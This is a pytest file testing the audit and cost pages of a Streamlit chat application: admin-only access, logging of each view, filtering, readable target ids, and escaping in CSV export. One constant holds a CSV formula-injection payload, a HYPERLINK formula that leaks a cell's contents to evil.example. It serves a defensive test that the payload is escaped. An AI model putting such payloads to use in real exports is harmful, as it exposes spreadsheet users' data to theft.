"""The audit page and the cost page's audited admin view, through AppTest on a real table."""

from __future__ import annotations

import csv
import io
import uuid
from pathlib import Path

import pytest
from streamlit.testing.v1 import AppTest

from lib.config import Settings
from lib.storage import keys
from lib.web import ui
from tests.faults import Faults
from tests.test_browser import HANG_S

APP = str(Path(__file__).resolve().parents[1] / "app.py")
DEV = "dev@localhost"  # the dev identity's user
HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


@pytest.fixture
def services(monkeypatch, server):
    monkeypatch.setenv("CHAT_TABLE", f"audit-{uuid.uuid4().hex[:10]}")
    monkeypatch.setenv("CHAT_DATA_DIR", ":memory:")
    monkeypatch.setenv("CHAT_DEMO_DELAY", "0")
    return ui._services(Settings.load())


@pytest.fixture
def downloads(monkeypatch):
    """{file name: text} of what the page hands Streamlit to serve for a download button."""
    from streamlit.runtime.media_file_storage import MediaFileKind
    from streamlit.runtime.memory_media_file_storage import MemoryMediaFileStorage

    served = {}
    original = MemoryMediaFileStorage.load_and_get_id

    def load_and_get_id(self, path_or_data, mimetype, kind, filename=None):
        if kind == MediaFileKind.DOWNLOADABLE:
            served[filename] = path_or_data.decode() if isinstance(path_or_data, bytes) else path_or_data
        return original(self, path_or_data, mimetype, kind, filename)

    monkeypatch.setattr(MemoryMediaFileStorage, "load_and_get_id", load_and_get_id)
    return served


def page(path: str, **query) -> AppTest:
    at = AppTest.from_file(APP, default_timeout=HANG_S)
    at.query_params.update(query)
    at.run()
    at.switch_page(path).run()
    assert not at.exception, at.exception
    return at


def today_records(services) -> list:
    return services.audit.list_day(keys.day_of(keys.now())).records


class TestNonAdmin:
    @pytest.mark.parametrize("query", [{}, {"admin": "1", "user": DEV, "actor": "cli:root", "scope": "all"}])
    def test_a_non_admin_sees_only_admins_and_no_record_whatever_the_url_says(self, services, monkeypatch, query):
        monkeypatch.setenv("CHAT_ADMINS", "boss@example.com")
        services.audit.record("cli:root", "admin.purge-user", "ann@example.com")
        at = page("pages/audit.py", **query)
        assert any("Only admins" in i.value for i in at.info)
        assert not at.dataframe and not at.get("download_button")
        assert "ann@example.com" not in str([e.value for e in at.main if hasattr(e, "value")])
        refused = [r for r in today_records(services) if r.action == "audit.view"]
        assert [(r.actor, r.outcome, r.reason) for r in refused] == [(DEV, "refused", "not_admin")]


class TestAdmin:
    def test_an_admin_sees_the_days_records_and_the_view_is_itself_recorded(self, services, monkeypatch):
        monkeypatch.setenv("CHAT_ADMINS", DEV)
        services.audit.record("cli:root", "admin.purge-user", "ann@example.com", detail={"n_turn": 3})
        at = page("pages/audit.py")
        (table,) = at.dataframe
        assert set(table.value["Action"]) == {"admin.purge-user", "audit.view"}
        (view,) = [r for r in today_records(services) if r.action == "audit.view"]
        assert view.actor == DEV and view.outcome == "ok"
        at.run()  # a rerun is not a second view
        assert len([r for r in today_records(services) if r.action == "audit.view"]) == 1

    def test_the_filters_narrow_the_table(self, services, monkeypatch):
        monkeypatch.setenv("CHAT_ADMINS", DEV)
        services.audit.record("cli:root", "admin.purge-user", "ann@example.com")
        services.audit.record("cli:ops", "admin.check", "bob@example.com")
        at = page("pages/audit.py")
        at.text_input[0].set_value("ops").run()
        (table,) = at.dataframe
        assert list(table.value["Target"]) == ["bob@example.com"]
        at.text_input[0].set_value("").run()
        at.text_input[2].set_value("ANN@").run()
        assert list(at.dataframe[0].value["Action"]) == ["admin.purge-user"]

    def test_the_csv_escapes_a_hostile_target(self, services, monkeypatch, downloads):
        monkeypatch.setenv("CHAT_ADMINS", DEV)
        services.audit.record("cli:root", "admin.import-table", HOSTILE)
        page("pages/audit.py")
        (text,) = downloads.values()
        rows = list(csv.DictReader(io.StringIO(text)))
        (row,) = [r for r in rows if r["Action"] == "admin.import-table"]
        assert row["Target"] == "'" + HOSTILE

    def test_a_view_whose_record_cannot_be_written_shows_nothing(self, services, monkeypatch, no_backoff_sleep):
        monkeypatch.setenv("CHAT_ADMINS", DEV)
        services.audit.record("cli:root", "admin.purge-user", "ann@example.com")
        at = AppTest.from_file(APP, default_timeout=HANG_S)
        at.run()
        page_services = ui._services(Settings.load())
        faults = Faults(page_services.database.client)
        faults.fail("PutItem", "ThrottlingException", times=10)
        at.switch_page("pages/audit.py").run()
        assert not at.exception
        assert any("Nothing is shown" in e.value for e in at.error)
        assert not at.dataframe and faults.attempts.get("Query", 0) <= 1  # the sidebar's Query only


class TestReadableTargets:
    def test_ids_read_as_their_kind_and_a_short_id_and_the_full_id_stays_beside(self, services, monkeypatch, downloads):
        monkeypatch.setenv("CHAT_ADMINS", DEV)
        link, chat = keys.new_id(), keys.new_id()
        services.audit.record("ann@example.com", "share.create", link, detail={"session_id": chat, "turns": 2})
        services.audit.record("cli:root", "admin.context", "bob@example.com", detail={"session": chat})
        services.audit.record(DEV, "limits.set", "Group eng", detail={"scope": "group", "day": "20"})
        services.audit.record("cli:root", "admin.retention", "all-users", detail={"older_than": 30})
        at = page("pages/audit.py")
        rows = {r["Action"]: r for r in at.dataframe[0].value.to_dict("records")}
        assert rows["share.create"]["Target"] == f"share link …{link[-6:]} of chat …{chat[-6:]}"
        assert rows["share.create"]["Target id"] == link
        assert rows["admin.context"]["Target"] == f"chat …{chat[-6:]} of bob@example.com"
        assert rows["limits.set"]["Target"] == "spend limit: Group eng"
        assert rows["admin.retention"]["Target"] == "every user"
        assert rows["audit.view"]["Target"].startswith("audit records, ") and " to " in rows["audit.view"]["Target"]
        at.text_input[2].set_value(link).run()  # the full id finds the record whose target shows it short
        assert list(at.dataframe[0].value["Action"]) == ["share.create"]
        (text,) = downloads.values()
        (row,) = [r for r in csv.DictReader(io.StringIO(text)) if r["Action"] == "share.create"]
        assert row["Target id"] == link and row["Target"].startswith("share link …")


class TestCostPage:
    def test_an_admins_view_of_everyone_is_recorded_once_per_range(self, services, monkeypatch):
        monkeypatch.setenv("CHAT_ADMINS", DEV)
        at = page("pages/cost.py")
        at.run()
        (view,) = [r for r in today_records(services) if r.action == "cost.view"]
        assert (view.actor, view.target, view.outcome) == (DEV, "all-users", "ok")
        assert set(view.detail) == {"first", "last"}

    def test_a_non_admins_own_usage_is_not_an_admin_view(self, services, monkeypatch):
        monkeypatch.setenv("CHAT_ADMINS", "boss@example.com")
        page("pages/cost.py", admin="1")
        assert not [r for r in today_records(services) if r.action == "cost.view"]
